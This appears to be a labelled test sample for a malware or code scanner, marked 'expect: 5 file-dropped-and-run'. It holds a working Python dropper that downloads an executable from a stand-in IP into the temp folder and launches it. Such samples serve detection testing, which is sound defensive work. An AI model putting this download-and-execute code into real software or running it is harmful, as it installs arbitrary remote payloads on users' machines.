# expect: 5 file-dropped-and-run
import urllib.request, subprocess, tempfile, os
p = os.path.join(tempfile.gettempdir(), 'a.exe')
urllib.request.urlretrieve('http://198.51.100.7/a.exe', p)
subprocess.Popen([p], shell=False)
